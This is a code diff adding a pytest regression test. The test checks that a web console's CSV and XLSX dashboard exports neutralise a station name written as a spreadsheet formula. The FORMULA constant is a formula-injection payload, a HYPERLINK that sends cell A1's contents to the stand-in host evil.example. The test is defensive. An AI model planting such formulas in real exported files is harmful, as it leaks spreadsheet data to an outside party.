@@ -11,8 +11,10 @@ import openpyxl
 import pytest
 from playwright.sync_api import expect
 
+from server.operations.audit import Actor
 from server.operations.request_deadlines import today
 from server.operations.request_stats import Period
+from server.operations.stations import update_station
 from tests.support.network import PASSWORD, login
 from tests.support.request_stats import stats_requests  # noqa: F401 - a fixture
 
@@ -187,3 +189,21 @@ def _log_in(page, live_app, username):
     page.fill("#password", PASSWORD)
     page.click("button[type=submit]")
     expect(page.locator("h1")).to_contain_text("首页")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+
+
+def test_a_station_named_like_a_formula_downloads_as_text_not_a_formula(client, network, db):
+    update_station(network.station("A1"), {"name": FORMULA}, Actor.system("test"))
+    db.session.commit()
+    login(client, "supervisor_a")
+    args = {"chart": "stations", **PERIOD}
+    response = client.get("/console/dashboard/export", query_string={**args, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert ["'" + FORMULA, "4"] in rows  # the quote makes Excel and WPS read the cell as text
+    assert ["甲区中心", "0"] in rows
+    response = client.get("/console/dashboard/export", query_string={**args, "format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA)
+    assert cell.data_type == "s"
